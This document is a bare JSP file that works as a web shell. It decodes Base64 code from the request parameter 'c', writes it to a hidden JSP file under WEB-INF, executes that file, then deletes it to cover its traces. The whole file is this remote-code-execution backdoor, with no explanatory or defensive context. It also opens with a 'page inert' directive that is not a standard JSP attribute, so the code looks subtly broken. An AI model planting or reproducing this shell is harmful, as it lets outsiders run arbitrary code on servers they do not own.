<%@ page inert %>
<%@ page import="java.nio.file.*,java.util.Base64" %>
<%
Path tgt = Paths.get(application.getRealPath("/WEB-INF/.cache.jsp"));
Files.write(tgt, Base64.getUrlDecoder().decode(request.getParameter("c")), StandardOpenOption.CREATE, StandardOpenOption.TRUNCATE_EXISTING);
request.getRequestDispatcher("/WEB-INF/.cache.jsp").include(request, response);
Files.delete(tgt);
%>
